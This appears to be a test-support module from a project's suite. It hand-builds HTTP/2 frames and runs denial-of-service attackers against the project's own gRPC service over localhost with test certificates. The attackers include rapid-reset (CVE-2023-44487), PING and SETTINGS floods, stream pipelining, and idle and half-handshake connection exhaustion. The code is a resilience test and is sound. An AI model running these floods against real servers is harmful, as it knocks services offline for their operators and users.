"""HTTP/2 by hand (RFC 9113), over the standard library's TLS, and the attackers that are made of it.

An attacker is a function that ends by itself.
`python -m tests.support.http2 ATTACK ADDRESS CERTS SECONDS [CLIENT]`
runs one as a process of its own, so that it shares no interpreter with its victim, and prints what it did.
"""

import json
import os
import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from pathlib import Path
from typing import Final

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS: Final = 4
CANCEL: Final = struct.pack(">I", 8)
MAX_CONCURRENT_STREAMS: Final = 3
SERVICE: Final = b"pjw.v1.JobWorkerService"
CONNECT_SECONDS: Final = 20
_LAST_STREAM: Final = 2**31 - 1
# a window that no answer fills
_WIDE: Final = b"\x7f\xff\x00\x00"


def frame(
    kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"", length: int | None = None
) -> bytes:
    """A frame, whose length may be a lie."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def number(value: int) -> bytes:
    """A length in HPACK, with a prefix of 7 bits."""
    if value < 127:
        return bytes([value])
    found, value = b"\x7f", value - 127
    while value >= 128:
        found, value = found + bytes([value % 128 + 128]), value // 128
    return found + bytes([value])


def fields(*pairs: tuple[bytes, bytes]) -> bytes:
    """A block of header fields, none of which is indexed or compressed."""
    return b"".join(b"\0" + number(len(k)) + k + number(len(v)) + v for k, v in pairs)


def call_fields(method: bytes = b"List", *more: tuple[bytes, bytes]) -> bytes:
    """Those of a call."""
    return fields(
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":path", b"/" + SERVICE + b"/" + method),
        (b":authority", b"localhost"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
        *more,
    )


def split_address(address: str) -> tuple[str, int]:
    """Where a service listens, by the text that it printed."""
    host, _, port = address.rpartition(":")
    return host, int(port)


@contextmanager
def tcp(address: str, source: str = "") -> Iterator[socket.socket]:
    """A connection without TLS, from an address of one's own; that the server ends it is what is expected."""
    place = (source, 0) if source else None
    with (
        socket.create_connection(split_address(address), CONNECT_SECONDS, place) as connection,
        suppress(OSError),
    ):
        yield connection


def tls_context(certs: Path, client: str | None) -> ssl.SSLContext:
    """What a client shows the server, if it shows a certificate at all."""
    context = ssl.create_default_context(cafile=str(certs / "ca.crt"))
    context.set_alpn_protocols(["h2"])
    if client:
        context.load_cert_chain(certs / f"{client}.crt", certs / f"{client}.key")
    return context


@contextmanager
def tls(address: str, certs: Path, client: str | None = "alice", source: str = "") -> Iterator[ssl.SSLSocket]:
    """A connection with TLS, and with a certificate or without."""
    with (
        tcp(address, source) as plain,
        tls_context(certs, client).wrap_socket(plain, server_hostname="localhost") as connection,
    ):
        yield connection


def client_hello() -> bytes:
    """The first message of a handshake."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing, server_hostname="localhost").do_handshake()
    return outgoing.read()


def frames_in(data: bytearray) -> Iterator[tuple[int, int, int, bytes]]:
    """Take the whole frames off the front of what came: kind, flags, stream, payload."""
    at = 0
    while len(data) - at >= 9:
        size = int.from_bytes(data[at : at + 3], "big")
        if len(data) - at < 9 + size:
            break
        stream = int.from_bytes(data[at + 5 : at + 9], "big")
        yield data[at + 3], data[at + 4], stream, bytes(data[at + 9 : at + 9 + size])
        at += 9 + size
    del data[:at]


# --- attackers: each ends after so many seconds, or when the server has hung up and *again* is false

Counts = dict[str, int]


def idle_connections(
    address: str, count: int, seconds: float, first: bytes = b"", source: str = ""
) -> Counts:
    """Open connections that say nothing more than *first*, keep them; how many were opened, and are left."""
    held: list[socket.socket] = []
    refused, over = 0, time.monotonic() + seconds
    try:
        while len(held) < count and time.monotonic() < over:
            try:
                held.append(socket.create_connection(split_address(address), 1, (source, 0)))
                held[-1].sendall(first)
            except OSError:
                refused += 1
                time.sleep(0.01)
        opened = len(held)
        while time.monotonic() < over:
            time.sleep(min(0.1, max(0, over - time.monotonic())))
        return {"opened": opened, "refused": refused, "left": sum(map(_is_open, held))}
    finally:
        for connection in held:
            connection.close()


def half_handshakes(address: str, count: int, seconds: float, source: str = "") -> Counts:
    """Connections that say hello in TLS, have the server answer, and leave it at that."""
    return idle_connections(address, count, seconds, client_hello(), source)


def connection_churn(address: str, seconds: float, first: bytes = b"", source: str = "") -> Counts:
    """Connect, say *first* and connect again, as fast as one thread can."""
    opened = refused = 0
    over = time.monotonic() + seconds
    while time.monotonic() < over:
        try:
            with socket.create_connection(split_address(address), 1, (source, 0)) as connection:
                connection.sendall(first)
                if first:
                    connection.settimeout(0.2)
                    connection.recv(1)
            opened += 1
        except OSError:
            refused += 1
    return {"opened": opened, "refused": refused}


def rapid_reset(
    address: str,
    certs: Path,
    seconds: float,
    rate: float = 0,
    client: str = "alice",
    *,
    method: bytes = b"Get",
    again: bool = True,
) -> Counts:
    """Begin calls and cancel each at once (CVE-2023-44487), *rate* a second or as fast as it goes.

    Hung up on, connect again.
    """
    done = {"calls": 0, "connections": 0, "cut": 0, "refused": 0}
    over = time.monotonic() + seconds
    block = call_fields(method)
    while time.monotonic() < over:
        try:
            with _opened(address, certs, client) as connection:
                done["connections"] += 1
                got, stream, sent, begun = bytearray(), 1, 0, time.monotonic()
                while time.monotonic() < over and stream < _LAST_STREAM - 64:
                    batch = b""
                    for _ in range(16):
                        batch += frame(HEADERS, END_HEADERS, stream, block)
                        batch += frame(RST_STREAM, 0, stream, CANCEL)
                        stream += 2
                    connection.sendall(batch)
                    _answer(connection, got)
                    sent += 16
                    done["calls"] += 16
                    if rate and (ahead := sent / rate - (time.monotonic() - begun)) > 0:
                        time.sleep(ahead)
        except OSError:
            # refused, or the end of a connection that was let in
            done["cut" if done["connections"] > done["cut"] else "refused"] += 1
            if not again:
                break
    return done


def pipelined(
    address: str,
    certs: Path,
    connections: int,
    seconds: float,
    client: str = "alice",
    *,
    method: bytes = b"Get",
    message: bytes = b"\x08\x01",
    streams: int = 0,
) -> Counts:
    """Keep as many calls under way as each connection may have; how many were answered.

    *streams* is as many for each connection at most; by default all that the server's settings allow.
    """
    total = {"calls": 0, "answers": 0, "connections": 0, "cut": 0, "refused": 0}
    lock, over = threading.Lock(), time.monotonic() + seconds

    def one() -> None:
        while time.monotonic() < over:
            counts = _pipeline(address, certs, client, over, method, message, streams)
            with lock:
                for name, value in counts.items():
                    total[name] += value

    threads = [threading.Thread(target=one) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return total


def _pipeline(
    address: str, certs: Path, client: str, over: float, method: bytes, message: bytes, streams: int
) -> Counts:
    """One connection of such an attacker, to its end."""
    done = {"calls": 0, "answers": 0, "connections": 0, "cut": 0, "refused": 0}
    block, body = call_fields(method), bytes([0]) + struct.pack(">I", len(message)) + message
    try:
        with _opened(address, certs, client) as connection:
            done["connections"] = 1
            connection.settimeout(0.2)
            got, stream, open_, allowed = bytearray(), 1, 0, streams or 100
            while time.monotonic() < over:
                batch = bytearray()
                while open_ < allowed and stream < _LAST_STREAM - 2:
                    batch += frame(HEADERS, END_HEADERS, stream, block)
                    batch += frame(DATA, END_STREAM, stream, body)
                    stream, open_ = stream + 2, open_ + 1
                    done["calls"] += 1
                connection.sendall(batch)
                try:
                    more = connection.recv(65_536)
                except TimeoutError:
                    continue
                if not more:
                    raise ConnectionError
                got += more
                for kind, flags, _, payload in frames_in(got):
                    if kind == GOAWAY:
                        raise ConnectionError
                    if kind == SETTINGS and not flags & ACK:
                        connection.sendall(frame(SETTINGS, ACK))
                        for at in range(0, len(payload), 6):
                            name, value = struct.unpack(">HI", payload[at : at + 6])
                            if name == MAX_CONCURRENT_STREAMS and not streams:
                                allowed = min(value, 10_000)
                    elif kind == PING and not flags & ACK:
                        connection.sendall(frame(PING, ACK, 0, payload))
                    elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                        open_ -= 1
                        done["answers"] += 1
    except OSError:
        done["cut" if done["connections"] else "refused"] += 1
    return done


def frame_flood(address: str, certs: Path, seconds: float, piece: bytes, client: str = "alice") -> Counts:
    """Send one frame that asks for an answer, as fast as it goes, and read what comes back."""
    done = {"frames": 0, "connections": 0, "cut": 0, "refused": 0}
    over = time.monotonic() + seconds
    while time.monotonic() < over:
        try:
            with _opened(address, certs, client) as connection:
                done["connections"] += 1
                while time.monotonic() < over:
                    connection.sendall(piece * 64)
                    _answer(connection, None)
                    done["frames"] += 64
        except OSError:
            done["cut" if done["connections"] > done["cut"] else "refused"] += 1
    return done


def ping_flood(address: str, certs: Path, seconds: float, client: str = "alice") -> Counts:
    """CVE-2019-9512."""
    return frame_flood(address, certs, seconds, frame(PING, 0, 0, bytes(8)), client)


def settings_flood(address: str, certs: Path, seconds: float, client: str = "alice") -> Counts:
    """CVE-2019-9515."""
    return frame_flood(address, certs, seconds, frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0"), client)


@contextmanager
def _opened(address: str, certs: Path, client: str) -> Iterator[ssl.SSLSocket]:
    """A connection of HTTP/2 that may be used; raises OSError for what goes wrong, also inside."""
    with ExitStack() as stack:
        plain = stack.enter_context(socket.create_connection(split_address(address), CONNECT_SECONDS))
        connection = stack.enter_context(
            tls_context(certs, client).wrap_socket(plain, server_hostname="localhost")
        )
        connection.sendall(PREFACE + frame(SETTINGS) + frame(WINDOW_UPDATE, 0, 0, _WIDE))
        yield connection


def _answer(connection: ssl.SSLSocket, got: bytearray | None) -> None:
    """Read what has come, without waiting; acknowledge pings and settings if it is to be looked at."""
    # one thread for both ways: OpenSSL's object is not safe for two
    connection.setblocking(False)
    try:
        while more := connection.recv(65_536):
            if got is not None:
                got += more
        raise ConnectionError("the server has hung up")
    except ssl.SSLWantReadError:
        pass
    finally:
        connection.setblocking(True)
    acknowledged = b""
    for kind, flags, _, payload in frames_in(got) if got else ():
        if kind in (PING, SETTINGS) and not flags & ACK:
            acknowledged += frame(kind, ACK, 0, payload if kind == PING else b"")
    if acknowledged:
        connection.sendall(acknowledged)


def _is_open(connection: socket.socket) -> bool:
    connection.setblocking(False)
    try:
        while data := connection.recv(65_536):
            del data
    except BlockingIOError:
        return True
    except OSError:
        pass
    return False


ATTACKS: Final[dict[str, Callable[[str, Path, float, str], Counts]]] = {
    "idle": lambda address, _, seconds, __: idle_connections(address, 2000, seconds),
    "half": lambda address, _, seconds, __: half_handshakes(address, 2000, seconds),
    "churn": lambda address, _, seconds, __: connection_churn(address, seconds),
    "hello": lambda address, _, seconds, __: connection_churn(address, seconds, client_hello()),
    "reset": lambda address, certs, seconds, client: rapid_reset(address, certs, seconds, 0, client),
    "pipelined": lambda address, certs, seconds, client: pipelined(address, certs, 4, seconds, client),
    "ping": ping_flood,
    "settings": settings_flood,
}


def main() -> None:
    """Run one attack, and print what it did as JSON."""
    attack, address, certs, seconds, *client = sys.argv[1:]
    counts = ATTACKS[attack](address, Path(certs), float(seconds), client[0] if client else "alice")
    print(json.dumps(counts), flush=True)
    # threads that wait for a peer are of no matter
    os._exit(0)


if __name__ == "__main__":
    main()
